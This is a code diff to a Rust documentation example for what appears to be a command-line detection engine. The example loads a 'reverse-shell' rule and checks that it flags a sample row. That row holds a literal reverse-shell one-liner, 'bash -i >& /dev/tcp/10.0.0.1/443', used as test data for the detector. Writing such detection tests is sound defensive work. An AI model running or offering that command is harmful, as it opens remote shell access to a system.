@@ -22,7 +22,7 @@
 //! ```
 //! use daemoneye_engine::Engine;
 //! use daemoneye_plan::{Builder, Case, ColumnType, Pattern, Test};
-//! use daemoneye_sdk::rules::{Batch, Column, Text};
+//! use daemoneye_sdk::rules::{Batch, Column};
 //!
 //! let mut plan = Builder::new();
 //! let operand = plan.column("command_line", ColumnType::Text);
@@ -31,9 +31,8 @@
 //! plan.leaf(Some(clause), Test::Like { operand, pattern, case: Case::Ignored });
 //! let engine = Engine::load(vec![("reverse-shell".into(), plan.finish()?)])?;
 //!
-//! let bytes = b"ls -lbash -i >& /dev/tcp/10.0.0.1/443".to_vec();
-//! let text = Text { validity: vec![], offsets: vec![0, 5, 37], bytes };
-//! let scan = engine.open(Batch { rows: 2, columns: vec![Column::Text(text)] })?;
+//! let lines = ["ls -l", "bash -i >& /dev/tcp/10.0.0.1/443"].map(|line| Some(line.to_owned()));
+//! let scan = engine.open(Batch::new(2, vec![Column::Text(lines.into())]))?;
 //! let candidates = scan.candidates();
 //! assert_eq!(candidates[0].rows, [1]);
 //! let verdict = scan.evaluate(candidates[0].rule, &candidates[0].rows, 1_000);
